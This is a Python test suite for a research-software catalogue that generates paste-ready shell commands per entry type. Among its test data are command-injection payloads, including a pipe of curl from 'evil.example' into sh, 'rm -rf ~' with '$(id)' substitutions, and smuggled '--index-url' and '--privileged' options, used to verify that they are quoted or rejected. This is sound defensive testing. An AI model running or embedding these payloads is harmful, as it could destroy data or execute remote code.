"""Commands to paste: right for every type, and nothing harvested escapes its quotes."""

import shlex
from dataclasses import replace

import pytest

import sample_catalogue as sample
from ossr_catalogue.model.catalogue import Entry
from ossr_catalogue.model.component import Component
from ossr_catalogue.model.kinds.command_line_program import CommandLineProgram
from ossr_catalogue.model.kinds.docker_container import DockerContainer, Image
from ossr_catalogue.model.kinds.jupyter_notebook import JupyterNotebook
from ossr_catalogue.model.kinds.kind import Kind
from ossr_catalogue.model.kinds.python_program import PythonProgram
from ossr_catalogue.model.kinds.singularity_container import SingularityContainer
from ossr_catalogue.publish.pages.snippets import snippets_for

GET_LIBRARY = f"""\
git clone https://github.com/example/ossr-library ossr-library
cd ossr-library
git checkout {sample.REVISION}"""
GET_GAIA = f"""\
git clone https://gitlab.example.org/gaia/mining mining
cd mining
git checkout {sample.GAIA.revision}"""
ENTRIES = {entry.executable.title: entry for entry in sample.of_every_type()}


def commands(entry: Entry) -> dict[str, str]:
    """Give the commands by their title; scripts for Slurm have tests of their own."""
    ways = snippets_for(entry.executable, entry.component)
    return {one.title: one.text for one in ways if one.title != "Slurm"}


def commands_of(kind: Kind, component: Component = sample.LIBRARY) -> dict[str, str]:
    return commands(sample.entry(kind, "Something", component))


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        (
            "Explore the OSSR",
            {
                "Get it": f"{GET_LIBRARY}\nconda env create --name ossr-library --file environment.yml\n"
                "conda activate ossr-library",
                "Open it in JupyterLab": "jupyter lab 'notebooks/Explore the OSSR.ipynb'",
                "Run it with papermill": "papermill 'notebooks/Explore the OSSR.ipynb' output.ipynb",
            },
        ),
        (
            "OSSR library in a container",
            {
                "Docker": "docker run --rm --interactive --tty --platform linux/amd64 "
                "--publish 127.0.0.1:8888:8888 --env OMP_NUM_THREADS=1 "
                f"ghcr.io/example/ossr-library:2.3.0@{sample.DIGEST} eossr-metadata-validator --help",
                "Apptainer": "apptainer run --env OMP_NUM_THREADS=1 "
                f"docker://ghcr.io/example/ossr-library@{sample.DIGEST} eossr-metadata-validator --help",
            },
        ),
        (
            "Gaia clustering with HDBSCAN",
            {
                "Zeppelin": "curl --fail --location --output HDBSCAN.json "
                "https://gitlab.example.org/gaia/mining/-/raw/fedcba98/notes/HDBSCAN.json"
            },
        ),
        ("CASA image", {"Apptainer": "apptainer run oras://ghcr.io/example/casa:6"}),
        (
            "Fit a blazar",
            {
                "Python": f"{GET_LIBRARY}\npython -m pip install --requirement requirements.txt\n"
                "python -m agn.fit"
            },
        ),
        ("Fetch CTA data", {"Install and run": "python -m pip install ctadata\nctadata fetch"}),
        (
            "Tutorials of the CDS",
            {
                "repo2docker": f"jupyter-repo2docker --ref {sample.REVISION} "
                "https://github.com/example/ossr-library"
            },
        ),
        ("Calibrate LOFAR data", {"cwltool": f"{GET_GAIA}\ncwltool workflows/calibrate.cwl"}),
        (
            "HI friends of galaxies",
            {"Snakemake": f"{GET_LIBRARY}\nsnakemake --snakefile Snakefile --cores all"},
        ),
        ("Simulate showers", {"Nextflow": f"{GET_LIBRARY}\nnextflow run main.nf"}),
        ("Quantum circuit", {"Fetch": GET_LIBRARY}),
    ],
)
def test_each_type_has_its_commands(title: str, expected: dict[str, str]) -> None:
    assert commands(ENTRIES[title]) == expected


def test_without_a_public_address_there_is_nothing_to_paste() -> None:
    assert commands_of(JupyterNotebook(location="a.ipynb"), sample.FOLDER) == {}


def test_a_notebook_of_another_place_is_downloaded_from_there() -> None:
    found = commands_of(JupyterNotebook(location="https://example.org/a%20b.ipynb"), sample.FOLDER)
    assert found["Get it"] == "curl --fail --location --output 'a b.ipynb' https://example.org/a%20b.ipynb"
    assert found["Open it in JupyterLab"] == "jupyter lab 'a b.ipynb'"


def test_a_container_without_an_image_is_built_from_its_recipe() -> None:
    found = commands_of(DockerContainer(recipe="docker/Dockerfile"))
    assert found["Build and run with Docker"].removeprefix(GET_LIBRARY).splitlines() == [
        "",
        "docker build --tag local-build --file docker/Dockerfile docker",
        "docker run --rm --interactive --tty local-build",
    ]


def test_an_entry_point_of_its_own_is_called_in_both_ways() -> None:
    kind = DockerContainer(image=Image(locations=("a/b:1",)), entrypoint="sh", command=("-c", "x"))
    assert commands_of(kind) == {
        "Docker": "docker run --rm --interactive --tty --entrypoint sh a/b:1 -c x",
        "Apptainer": "apptainer exec docker://a/b:1 sh -c x",
    }


def test_privileges_are_never_granted() -> None:
    kind = DockerContainer(image=Image(locations=("a/b",)), privileged=True)
    (docker, *_) = snippets_for(sample.executable(kind, "Something"), sample.LIBRARY)
    assert "--privileged" not in docker.text
    assert docker.note == "It asks for privileges, which this command does not grant."


def test_gpus_that_are_needed_are_passed_on() -> None:
    entry = sample.entry(DockerContainer(image=Image(locations=("a/b",))), "Something", needs=sample.GPU)
    found = commands(entry)
    assert "--gpus all" in found["Docker"]
    assert "--nv" in found["Apptainer"]


@pytest.mark.parametrize(
    ("location", "expected"),
    [
        ("image.sif", [GET_LIBRARY, "apptainer run ./image.sif"]),
        (
            "Singularity.def",
            [GET_LIBRARY, "apptainer build image.sif Singularity.def", "apptainer run image.sif"],
        ),
        (
            "https://example.org/a/b.sif",
            ["curl --fail --location --output b.sif https://example.org/a/b.sif", "apptainer run ./b.sif"],
        ),
    ],
)
def test_an_image_is_run_and_a_recipe_is_built_first(location: str, expected: list[str]) -> None:
    assert commands_of(SingularityContainer(location=location)) == {"Apptainer": "\n".join(expected)}


@pytest.mark.parametrize(
    ("purl", "install"),
    [
        ("pkg:pypi/gammapy@1.2", "python -m pip install gammapy==1.2"),
        ("pkg:conda/gammapy", "conda install --channel conda-forge gammapy"),
        ("pkg:cargo/moc@0.1.0?x=y", "cargo install --locked moc@0.1.0"),
        ("pkg:npm/%40scope/name@1.0.0", "npm install --global @scope/name@1.0.0"),
    ],
)
def test_a_package_is_installed_by_its_own_installer(purl: str, install: str) -> None:
    found = commands_of(CommandLineProgram(command="x", package=purl))
    assert found["Install and run"] == f"{install}\nx"


@pytest.mark.parametrize(
    "purl",
    [
        "pkg:unheard-of/name",
        "pkg:pypi/--index-url",
        "pkg:pypi/name@1 --index-url https://evil.example",
        "pkg:pypi/name;curl evil.example|sh",
        "no purl at all",
        "",
    ],
)
def test_a_package_that_is_no_plain_name_is_not_installed(purl: str) -> None:
    assert commands_of(CommandLineProgram(command="x", package=purl)) == {}


@pytest.mark.parametrize("image", ["--privileged", "-v/:/host", "a b", "$(id)", ""])
def test_an_image_is_never_an_option(image: str) -> None:
    assert commands_of(DockerContainer(image=Image(locations=(image,)))) == {}


HOSTILE = "a'; rm -rf ~ #$(id)`id`\n&& x"


@pytest.mark.parametrize(
    "kind",
    [
        pytest.param(JupyterNotebook(location=HOSTILE), id="location"),
        pytest.param(JupyterNotebook(location="a", kernel=HOSTILE), id="kernel"),
        pytest.param(PythonProgram(module=HOSTILE), id="module"),
        pytest.param(PythonProgram(location="a", requirements=HOSTILE), id="requirements"),
        pytest.param(DockerContainer(image=Image(locations=("a",)), command=(HOSTILE,)), id="command"),
        pytest.param(DockerContainer(image=Image(locations=("a",)), entrypoint=HOSTILE), id="entrypoint"),
        pytest.param(
            DockerContainer(image=Image(locations=("a",)), environment=(("A", HOSTILE),)), id="variable"
        ),
        pytest.param(SingularityContainer(location=f"docker://{HOSTILE}"), id="reference"),
    ],
)
def test_a_hostile_word_stays_one_word(kind: Kind) -> None:
    words = [word for text in commands_of(kind).values() for word in shlex.split(text)]
    assert any(HOSTILE in word for word in words)
    assert "rm" not in words


def test_a_command_is_a_program_with_arguments_and_never_a_script() -> None:
    found = commands_of(CommandLineProgram(command="a b; rm x | sh", package="pkg:pypi/a"))
    assert found["Install and run"].splitlines()[1] == "a 'b;' rm x '|' sh"


def test_a_command_that_is_not_closed_is_one_word() -> None:
    found = commands_of(CommandLineProgram(command="a 'b", package="pkg:pypi/a"))
    assert shlex.split(found["Install and run"])[-1] == "a 'b"


def test_a_file_that_looks_like_an_option_is_none() -> None:
    assert commands_of(JupyterNotebook(location="--help"))["Open it in JupyterLab"] == "jupyter lab ./--help"


def test_a_repository_that_is_not_on_the_web_is_not_cloned() -> None:
    component = replace(sample.LIBRARY, repository="--upload-pack=evil", files_url=None)
    assert commands_of(JupyterNotebook(location="a.ipynb"), component) == {}


@pytest.mark.parametrize(
    ("kind", "command"),
    [
        pytest.param(SingularityContainer(location="docker://[::1/x"), "docker://[::1/x", id="an image"),
        pytest.param(SingularityContainer(location="library://[a/b"), "library://[a/b", id="a library"),
    ],
)
def test_an_address_that_is_none_ends_nothing(kind: Kind, command: str) -> None:
    assert command in " ".join(commands_of(kind).values())
